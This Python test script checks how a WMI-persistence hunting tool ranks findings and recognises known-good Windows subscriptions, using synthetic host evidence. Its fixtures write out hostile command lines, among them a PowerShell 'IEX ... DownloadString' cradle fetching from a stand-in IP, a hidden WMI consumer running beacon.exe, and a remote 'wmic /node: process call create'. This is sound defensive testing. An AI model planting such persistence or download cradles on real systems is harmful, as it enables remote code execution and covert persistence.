#!/usr/bin/env python3
"""Ranking and known-good content at the level of `wmihunt hunt` cases, on
trees our writers make (tests/gen/casegen.py's Host: the repository by
`wh-cimgen subs`, the logs by `wh-evtxgen events`, the hive by `wh-regfgen`).

Ranking (lib/hunt/hunt_rank.c, `hunt --help`): critical is a live or
recently fired persistence whose payload downloads, decodes or runs a script
host or LOLBin; cases come by severity, then live before logged, MOF-only
and removed, then most recent first; inventory last.

  rank       one host: a live CommandLineEventConsumer running PowerShell
             DownloadString from an http URL, beside other cases at high: a
             live ActiveScript consumer that only appends to a log file, a
             MOF with a subscription (encoded PowerShell) in
             C:\\Users\\Public, a subscription created and removed (cmd.exe,
             never fired), and `wmic /node: process call create` after a
             privileged logon. The download is rank 1 and the only critical
             case; each other is high and not inventory; ranks are 1..N by
             severity, live first among equals, inventory last.
  fired      the same, the removed subscription fired (WmiPrvSE -> cmd.exe)
             before its removal, within 30 days of the newest evidence:
             now critical too, rank 2 (removed after live).
  stale      the same, but it fired 60 days before the newest evidence: high.

Known-good (rules/builtin.yml):
  WH-KG-001  the SCM Event Log triple every writer repository holds: no case
             above info, the subscription a hunt.case with inventory true
             and known_good set. Look-alike: the same filter and consumer
             names with a CommandLineEventConsumer running cmd.exe (a MOF
             in System32\\wbem and its WMI-Activity 5861): a case at high or
             above, not inventory, known_good null; and the genuine case
             keeps nothing of it (no finding above info, no evidence of a
             CommandLineEventConsumer).
  WH-KG-002  BVTFilter -> BVTConsumer 'cscript KernCap.vbs' in
             C:\\tools\\kernrate: inventory. Look-alikes in the repository:
             BVTConsumer running a PowerShell download (critical: live and
             dangerous), and the genuine command line from another working
             directory (C:\\Users\\Public): high or above, not inventory.
  WH-KG-003/4 WMI-Activity 5860 of Windows Security Center's query in
             root\\SecurityCenter2 and of the wsmprovhost.exe start trace in
             root\\cimv2: inventory cases with known_good set. The Security
             Center query in root\\cimv2 and a start trace of lsass.exe: not
             known-good (WH-EVT-055, which the rules keep at info).

usage: test_hunt_rank.py WMIHUNT TESTS_GEN_BUILD_DIR SCRATCH"""
import datetime
import json
import os
import shutil
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, ".."))
sys.path.insert(0, os.path.join(HERE, "..", "gen"))
from checks import check, finish, records  # noqa: E402
import casegen as cg  # noqa: E402

SEV = ["info", "low", "medium", "high", "critical"]
STATE_ORDER = ["live", "logged", "mof_only", "removed", "activity"]


def hunt(wm, tree, *args):
    p = subprocess.run([wm, "hunt", "--no-progress", "--format", "jsonl"] + list(args) + [tree], capture_output=True)
    recs = []
    for r in records(p.stdout.decode("utf-8", "replace")):
        if r.get("artifact") == "?bad json":
            check(False, "%s: output line is not JSON: %r" % (os.path.basename(tree), r["line"]))
        else:
            recs.append(r)
    return p.returncode, recs, p.stderr.decode("utf-8", "replace")


def of(recs, artifact):
    return [r for r in recs if r.get("artifact") == artifact]


def sev(c):
    return SEV.index(c["severity"]) if c.get("severity") in SEV else -1


def one(name, cases, what, pred):
    got = [c for c in cases if pred(c)]
    check(len(got) == 1, "%s: %d cases are %s, expected 1: %s" % (name, len(got), what,
                                                                   [c.get("title") for c in got][:4]))
    return got[0] if got else None


def by_names(filt, cons):
    return lambda c: c.get("kind") in ("subscription", "filter", "consumer") and \
        (c.get("filter_name") == filt or c.get("consumer_name") == cons)


def write(gen, out, h, repo_entries, mofs=()):
    repo = ["subs"]
    for e in repo_entries:
        repo += e
    h.write(gen, out, repo, ["autorecover", "2024-04-30T08:00:00Z"], mofs)


# ---------------------------------------------------------------- ranking

DL_CMD = ("powershell.exe -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
          "'http://203.0.113.50/a.ps1')\"")
DL = cg.sub("root\\subscription", "UptimeMonitor",
            "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
            "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240",
            "CommandLineEventConsumer", "UptimeMonitorConsumer", [("CommandLineTemplate", DL_CMD)])
LOGGER = ('Set fso = CreateObject("Scripting.FileSystemObject")\r\n'
          'Set f = fso.OpenTextFile("C:\\ProgramData\\Inventory\\seen.log", 8, True)\r\n'
          'f.WriteLine Now\r\nf.Close\r\n')
AS = cg.sub("root\\subscription", "InventoryTick",
            "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_LocalTime'",
            "ActiveScriptEventConsumer", "InventoryLogger", [("ScriptingEngine", "VBScript"), ("ScriptText", LOGGER)])
RM_CMD = r"cmd.exe /c C:\ProgramData\Svc\beacon.exe"
RM = cg.sub("root\\subscription", "OldUpdater",
            "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_LocalTime'",
            "CommandLineEventConsumer", "OldUpdaterConsumer", [("CommandLineTemplate", RM_CMD)])
MOF_PATH = r"C:\Users\Public\Libraries\svc.mof"
MF = cg.sub("root\\subscription", "PublicLibFilter",
            "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession'",
            "CommandLineEventConsumer", "PublicLibConsumer",
            [("CommandLineTemplate", "powershell.exe -NoP -W Hidden -Enc " + cg.enc("Start-Process notepad.exe"))])
NODE = 'wmic /node:10.20.30.77 process call create "cmd.exe /c ipconfig > C:\\Windows\\Temp\\i.txt"'


def rank_tree(gen, out, fired=None, late=None):
    """fired: when the removed subscription fired (None: never); late: one
    more logon at this time (moves the host's newest evidence)."""
    h = cg.Host("WS-OPS-04.corp.example.com")
    logon = "0x51a0b2"
    t0 = cg.at("2024-06-03T08:00:00")
    h.logon(t0, cg.ADM, cg.ADM_SID, logon)
    shell = 6604
    h.proc(t0 + cg.ms(30000), shell, cg.CMD, '"C:\\Windows\\System32\\cmd.exe"', cg.ADM, cg.ADM_SID, logon, 4410,
           r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE")
    # the removed one: created, (fired), deleted
    created = (fired - datetime.timedelta(minutes=10)) if fired else cg.at("2024-06-03T08:05:00")
    h.sysmon_sub(created, "Created", cg.ADM, RM)
    if fired:
        h.fired(fired, 8840, cg.CMD, RM_CMD, RM["consumer_class"], 5304)
    h.sysmon_sub(created + datetime.timedelta(minutes=15), "Deleted", cg.ADM, RM)
    h.proc(cg.at("2024-06-03T08:07:00"), 7420, cg.WMIC, NODE, cg.ADM, cg.ADM_SID, logon, shell, cg.CMD,
           '"C:\\Windows\\System32\\cmd.exe"')
    if late:
        h.logon(late, cg.ADM, cg.ADM_SID, "0x61b0c3", ltype=2)
    mof = cg.subscription_mof(MF["namespace"], MF["filter"], MF["query"], MF["consumer_class"], MF["consumer"],
                              MF["props"], autorecover=False)
    write(gen, out, h, [cg.repo_entry("live", DL, cg.at("2024-06-03T08:10:00")),
                        cg.repo_entry("live", AS, cg.at("2024-06-03T08:11:00")),
                        cg.repo_entry("deleted", RM, created + cg.ms(300))],
          [(MOF_PATH, mof, cg.at("2024-06-03T08:12:00"))])


def order_checks(name, cases):
    ranks = [c.get("rank") for c in cases]
    check(sorted(ranks) == list(range(1, len(cases) + 1)), "%s: ranks %s are not 1..%d" % (name, ranks, len(cases)))
    cs = sorted(cases, key=lambda c: c.get("rank") or 0)
    inv = [c.get("inventory") for c in cs]
    check(inv == sorted(inv), "%s: an inventory case ranks before a case that is not" % name)
    real = [c for c in cs if not c.get("inventory")]
    s = [sev(c) for c in real]
    check(s == sorted(s, reverse=True), "%s: cases not worst first: %s" % (name, [c.get("severity") for c in real]))
    for a, b in zip(real, real[1:]):
        if sev(a) == sev(b) and a.get("state") in STATE_ORDER and b.get("state") in STATE_ORDER:
            check(STATE_ORDER.index(a["state"]) <= STATE_ORDER.index(b["state"]),
                  "%s: among %s cases, %s (%s) ranks before %s (%s)" % (name, a.get("severity"), a.get("title"),
                                                                        a.get("state"), b.get("title"), b.get("state")))


def rank_checks(name, rc, recs, removed_sev):
    check(rc == 1, "%s: exit %d, expected 1" % (name, rc))
    cases = of(recs, "hunt.case")
    order_checks(name, cases)
    dl = one(name, cases, "the downloading subscription", by_names(DL["filter"], DL["consumer"]))
    if dl:
        w = "%s: %s" % (name, dl.get("title"))
        check(dl.get("rank") == 1, w + ": rank %r, expected 1" % dl.get("rank"))
        check(dl.get("severity") == "critical", w + ": severity %r, expected critical" % dl.get("severity"))
        check(dl.get("state") == "live", w + ": state %r, expected live" % dl.get("state"))
        check(dl.get("inventory") is False, w + ": inventory")
        check(dl.get("payload") == DL_CMD, w + ": payload %r" % dl.get("payload"))
    want = [("the ActiveScript log writer", by_names(AS["filter"], AS["consumer"]), "high", "live"),
            ("the MOF subscription in Users\\Public", by_names(MF["filter"], MF["consumer"]), "high", "mof_only"),
            ("the removed subscription", by_names(RM["filter"], RM["consumer"]), removed_sev, "removed"),
            ("the wmic /node: process call create", lambda c: c.get("kind") == "wmi_execution", "high", "activity")]
    for what, pred, s, state in want:
        c = one(name, cases, what, pred)
        if not c:
            continue
        w = "%s: %s (%s)" % (name, what, c.get("title"))
        check(c.get("severity") == s, w + ": severity %r, expected %s (rules %s)" % (c.get("severity"), s,
                                                                                   c.get("rules")))
        check(c.get("inventory") is False, w + ": marked inventory")
        check(c.get("state") == state, w + ": state %r, expected %s" % (c.get("state"), state))
    if cases:
        mof = [c for c in cases if by_names(MF["filter"], MF["consumer"])(c)]
        if mof:
            paths = [p.lower().replace("/", "\\") for p in mof[0].get("mof_paths") or []]
            check(any(p.endswith("users\\public\\libraries\\svc.mof") for p in paths),
                  "%s: the MOF case's mof_paths %r lack svc.mof" % (name, paths))
    crit = [c.get("title") for c in cases if c.get("severity") == "critical"]
    allowed = {dl.get("title") if dl else None}
    if removed_sev == "critical":
        allowed |= {c.get("title") for c in cases if by_names(RM["filter"], RM["consumer"])(c)}
    check(set(crit) <= allowed, "%s: critical cases that are not live/recently fired and dangerous: %s"
          % (name, sorted(set(crit) - allowed)))
    return cases


def rank(wm, gen, tmp):
    out = os.path.join(tmp, "rank")
    rank_tree(gen, out)
    rc, recs, err = hunt(wm, out)
    cases = rank_checks("rank", rc, recs, "high")
    check(err.strip() == "", "rank: stderr on clean evidence: %s" % err.strip()[-300:])
    hosts = of(recs, "hunt.host")
    check(hosts and hosts[0].get("worst") == "critical", "rank: hunt.host worst %r"
          % (hosts[0].get("worst") if hosts else None))
    # The findings of each case point at it.
    ids = {c.get("case_id"): c for c in cases}
    for f in of(recs, "hunt.finding"):
        c = ids.get(f.get("case_id"))
        if c and not c.get("inventory") and f.get("severity") != "info":
            check(f.get("rule") in (c.get("rules") or []), "rank: finding %s points at case %s, whose rules %s lack it"
                  % (f.get("rule"), c.get("case_id"), c.get("rules")))
    # text: the same first case
    p = subprocess.run([wm, "hunt", "--no-progress", "--no-color", out], capture_output=True, text=True)
    first = [l for l in p.stdout.splitlines() if l.startswith("#1 ")]
    check(first and "CRITICAL" in first[0] and DL["filter"] in first[0],
          "rank: text report's #1 is %r, expected the critical UptimeMonitor subscription" % (first[:1],))
    # --fail-on critical still fails (the download is critical); --min-severity critical shows one case
    rc, recs2, _ = hunt(wm, out, "--fail-on", "critical", "--min-severity", "critical")
    check(rc == 1, "rank --fail-on critical: exit %d, expected 1" % rc)
    shown = of(recs2, "hunt.case")
    check([c.get("filter_name") for c in shown if not c.get("inventory")] == [DL["filter"]],
          "rank --min-severity critical: cases shown %s, expected only UptimeMonitor"
          % [c.get("title") for c in shown if not c.get("inventory")])

    out = os.path.join(tmp, "fired")
    rank_tree(gen, out, fired=cg.at("2024-06-03T07:50:00"))
    rc, recs, _ = hunt(wm, out)
    cases = rank_checks("fired", rc, recs, "critical")
    rm = [c for c in cases if by_names(RM["filter"], RM["consumer"])(c)]
    if rm:
        check(rm[0].get("fired_count") == 1, "fired: the removed subscription's fired_count %r, expected 1"
              % rm[0].get("fired_count"))
        check(rm[0].get("rank") == 2, "fired: the removed, recently fired subscription is rank %r, expected 2 "
              "(critical, after the live one)" % rm[0].get("rank"))

    out = os.path.join(tmp, "stale")
    fired = cg.at("2024-04-01T07:50:00")
    rank_tree(gen, out, fired=fired, late=cg.at("2024-06-03T09:00:00"))
    rc, recs, _ = hunt(wm, out)
    cases = rank_checks("stale", rc, recs, "high")
    rm = [c for c in cases if by_names(RM["filter"], RM["consumer"])(c)]
    if rm:
        check(rm[0].get("fired_count") == 1 and (rm[0].get("fired_last") or "").startswith("2024-04-01"),
              "stale: fired %r at %r, expected once on 2024-04-01" % (rm[0].get("fired_count"),
                                                                     rm[0].get("fired_last")))


# ---------------------------------------------------------------- known-good

BVT_Q = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_Processor' AND "
         "TargetInstance.LoadPercentage > 99")
SCM_F, SCM_C = "SCM Event Log Filter", "SCM Event Log Consumer"
WSC_Q = ("SELECT * FROM __InstanceOperationEvent WHERE TargetInstance ISA 'AntiVirusProduct' OR TargetInstance ISA "
         "'FirewallProduct' OR TargetInstance ISA 'AntiSpywareProduct'")
WRM_Q = "select * from Win32_ProcessStartTrace where ProcessName = 'wsmprovhost.exe'"
T = cg.at("2024-06-03T08:10:00")


def kg_host(name):
    h = cg.Host("KG-%s.corp.example.com" % name.upper())
    h.logon(cg.at("2024-06-03T08:00:00"), cg.ADM, cg.ADM_SID, "0x51a0b2", ltype=2)
    return h


def nothing_above_info(name, rc, recs):
    check(rc == 0, "%s: exit %d, expected 0 (known-good content only)" % (name, rc))
    above = [(c.get("title"), c.get("severity"), c.get("rules")) for c in of(recs, "hunt.case")
             if not c.get("inventory") or c.get("severity") != "info"]
    check(not above, "%s: cases above info / not inventory: %s" % (name, above[:4]))
    af = [(f.get("rule"), f.get("severity")) for f in of(recs, "hunt.finding") if f.get("severity") != "info"]
    check(not af, "%s: findings above info: %s" % (name, af[:6]))


def genuine(name, recs, pred, rule, title_part):
    c = one(name, of(recs, "hunt.case"), "the genuine entity", pred)
    if not c:
        return None
    w = "%s: %s" % (name, c.get("title"))
    check(c.get("inventory") is True, w + ": inventory %r, expected true" % c.get("inventory"))
    check(c.get("severity") == "info", w + ": severity %r, expected info" % c.get("severity"))
    check(isinstance(c.get("known_good"), str) and title_part in c["known_good"],
          w + ": known_good %r, expected the title of %s" % (c.get("known_good"), rule))
    check(rule in (c.get("rules") or []), w + ": rules %r lack %s" % (c.get("rules"), rule))
    bad = [f.get("rule") for f in of(recs, "hunt.finding") if f.get("case_id") == c.get("case_id")
           and f.get("severity") != "info"]
    check(not bad, w + ": the known-good inventory case carries findings above info: %s" % bad)
    return c


def lookalike(name, rc, recs, pred, rule_expected="WH-SUB-009"):
    check(rc in (1,), "%s: exit %d, expected 1" % (name, rc))
    c = one(name, of(recs, "hunt.case"), "the look-alike", pred)
    if not c:
        return None
    w = "%s: %s" % (name, c.get("title"))
    check(c.get("severity") in ("high", "critical"), w + ": severity %r, expected high or above" % c.get("severity"))
    check(c.get("inventory") is False, w + ": inventory %r, expected false" % c.get("inventory"))
    check(c.get("known_good") is None, w + ": known_good %r, expected null" % c.get("known_good"))
    if rule_expected:
        check(rule_expected in (c.get("rules") or []), w + ": rules %r lack %s" % (c.get("rules"), rule_expected))
    kg = [f.get("rule") for f in of(recs, "hunt.finding") if f.get("case_id") == c.get("case_id")
          and (f.get("known_good") or str(f.get("rule", "")).startswith("WH-KG-"))]
    check(not kg, w + ": known-good findings on the look-alike: %s" % kg)
    return c


def record_is(n):
    """The case of WMI-Activity record n (a 5860)."""
    return lambda c: 5860 in (c.get("event_ids") or []) and n in (c.get("record_ids") or []) and \
        "Microsoft-Windows-WMI-Activity/Operational" in (c.get("channels") or [])


def scm_genuine_pred(c):
    return c.get("filter_name") == SCM_F and c.get("consumer_class") == "NTEventLogEventConsumer"


def known_good(wm, gen, tmp):
    # WH-KG-001: the writer's Windows defaults
    out = os.path.join(tmp, "kg-scm")
    write(gen, out, kg_host("scm"), [])
    rc, recs, err = hunt(wm, out)
    nothing_above_info("kg-scm", rc, recs)
    genuine("kg-scm", recs, scm_genuine_pred, "WH-KG-001", "SCM Event Log")

    # WH-KG-001 look-alike: same names, CommandLineEventConsumer running cmd.exe
    out = os.path.join(tmp, "kg-scm-fake")
    fake = cg.sub("root\\subscription", SCM_F, "select * from MSFT_SCMEventLogEvent", "CommandLineEventConsumer",
                  SCM_C, [("CommandLineTemplate", r"cmd.exe /c C:\ProgramData\scm\svc.bat")])
    h = kg_host("scmfake")
    h.wmi5861(cg.at("2024-06-03T08:09:00"), fake, cg.ADMINS)
    mof = cg.subscription_mof(fake["namespace"], SCM_F, fake["query"], "CommandLineEventConsumer", SCM_C,
                              fake["props"], autorecover=False)
    write(gen, out, h, [], [(r"C:\Windows\System32\wbem\scmevt.mof", mof, T)])
    rc, recs, err = hunt(wm, out)
    c = lookalike("kg-scm-fake", rc, recs,
                  lambda c: c.get("consumer_name") == SCM_C and c.get("consumer_class") == "CommandLineEventConsumer")
    g = genuine("kg-scm-fake", recs, scm_genuine_pred, "WH-KG-001", "SCM Event Log")
    if g:
        alien = [e.get("artifact") for e in g.get("evidence") or [] if "CommandLineEventConsumer" in
                 json.dumps(e) or "svc.bat" in json.dumps(e)]
        check(not alien, "kg-scm-fake: the genuine SCM inventory case holds the look-alike's evidence: %s" % alien)
    if c:
        arts = {e.get("artifact") for e in c.get("evidence") or []}
        check("evtx.wmi_activity" in arts or 5861 in (c.get("event_ids") or []),
              "kg-scm-fake: the look-alike's WMI-Activity 5861 is not in its case (evidence %s, event_ids %s)"
              % (sorted(arts), c.get("event_ids")))

    # WH-KG-002: the genuine BVT leftover
    bvt_props = [("CommandLineTemplate", "cscript KernCap.vbs"), ("WorkingDirectory", "C:\\tools\\kernrate")]
    out = os.path.join(tmp, "kg-bvt")
    write(gen, out, kg_host("bvt"), [cg.repo_entry("live", cg.sub("root\\subscription", "BVTFilter", BVT_Q,
                                                                  "CommandLineEventConsumer", "BVTConsumer",
                                                                  bvt_props), T)])
    rc, recs, err = hunt(wm, out)
    nothing_above_info("kg-bvt", rc, recs)
    genuine("kg-bvt", recs, lambda c: c.get("filter_name") == "BVTFilter", "WH-KG-002", "BVT")
    genuine("kg-bvt", recs, scm_genuine_pred, "WH-KG-001", "SCM Event Log")

    # WH-KG-002 look-alikes
    out = os.path.join(tmp, "kg-bvt-ps")
    ps = "powershell.exe -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/k')\""
    write(gen, out, kg_host("bvtps"), [cg.repo_entry("live", cg.sub(
        "root\\subscription", "BVTFilter", BVT_Q, "CommandLineEventConsumer", "BVTConsumer",
        [("CommandLineTemplate", ps), ("WorkingDirectory", "C:\\tools\\kernrate")]), T)])
    rc, recs, err = hunt(wm, out)
    c = lookalike("kg-bvt-ps", rc, recs, lambda c: c.get("consumer_name") == "BVTConsumer")
    if c:
        check(c.get("severity") == "critical" and c.get("rank") == 1,
              "kg-bvt-ps: a live BVTConsumer downloading with PowerShell is %r rank %r, expected critical rank 1"
              % (c.get("severity"), c.get("rank")))
    genuine("kg-bvt-ps", recs, scm_genuine_pred, "WH-KG-001", "SCM Event Log")

    out = os.path.join(tmp, "kg-bvt-dir")
    write(gen, out, kg_host("bvtdir"), [cg.repo_entry("live", cg.sub(
        "root\\subscription", "BVTFilter", BVT_Q, "CommandLineEventConsumer", "BVTConsumer",
        [("CommandLineTemplate", "cscript KernCap.vbs"), ("WorkingDirectory", "C:\\Users\\Public")]), T)])
    rc, recs, err = hunt(wm, out)
    lookalike("kg-bvt-dir", rc, recs, lambda c: c.get("consumer_name") == "BVTConsumer")

    # WH-KG-003 / WH-KG-004: temporary consumers in WMI-Activity 5860
    out = os.path.join(tmp, "kg-5860")
    h = kg_host("tmp")
    h.ev("wmi5860", cg.at("2024-06-03T08:01:00"), "//./root/SecurityCenter2", WSC_Q, "NT AUTHORITY\\SYSTEM", "1234",
         "KG-TMP")
    h.ev("wmi5860", cg.at("2024-06-03T08:01:01"), "//./root/cimv2", WRM_Q, "NT AUTHORITY\\SYSTEM", "1236", "KG-TMP")
    write(gen, out, h, [])
    rc, recs, err = hunt(wm, out)
    nothing_above_info("kg-5860", rc, recs)
    # the WMI-Activity log holds the two events in time order: records 1 and 2
    genuine("kg-5860", recs, record_is(1), "WH-KG-003", "Security Center")
    genuine("kg-5860", recs, record_is(2), "WH-KG-004", "wsmprovhost")
    check(not [f for f in of(recs, "hunt.finding") if f.get("rule") == "WH-EVT-055"],
          "kg-5860: WH-EVT-055 fired on Windows' own temporary subscriptions")

    out = os.path.join(tmp, "kg-5860-fake")
    h = kg_host("tmpfake")
    h.ev("wmi5860", cg.at("2024-06-03T08:01:00"), "//./root/cimv2", WSC_Q, "CORP\\adm-jlee", "4321", "KG-TMPFAKE")
    h.ev("wmi5860", cg.at("2024-06-03T08:01:01"), "//./root/cimv2",
         "select * from Win32_ProcessStartTrace where ProcessName = 'lsass.exe'", "CORP\\adm-jlee", "4321",
         "KG-TMPFAKE")
    write(gen, out, h, [])
    rc, recs, err = hunt(wm, out)
    kg = [(f.get("rule"), f.get("evidence")) for f in of(recs, "hunt.finding") if f.get("rule") in
          ("WH-KG-003", "WH-KG-004")]
    check(not kg, "kg-5860-fake: other queries taken for Windows' own: %s" % kg)
    e55 = [f for f in of(recs, "hunt.finding") if f.get("rule") == "WH-EVT-055"]
    check(len(e55) == 2, "kg-5860-fake: %d WH-EVT-055 findings, expected 2 (one per 5860)" % len(e55))
    mine = [c for c in of(recs, "hunt.case") if record_is(1)(c) or record_is(2)(c)]
    check(len(mine) == 2, "kg-5860-fake: %d cases hold the two 5860 events, expected 2" % len(mine))
    named = [(c.get("title"), c.get("known_good")) for c in mine if c.get("known_good")]
    check(not named, "kg-5860-fake: cases called known-good: %s" % named)
    check(all(c.get("case_id") in {f.get("case_id") for f in e55} for c in mine),
          "kg-5860-fake: the WH-EVT-055 findings do not point at the 5860 cases")


def main():
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    wm, gen, tmp = sys.argv[1:4]
    shutil.rmtree(tmp, ignore_errors=True)
    os.makedirs(tmp)
    rank(wm, gen, tmp)
    known_good(wm, gen, tmp)
    return finish()


if __name__ == "__main__":
    sys.exit(main())
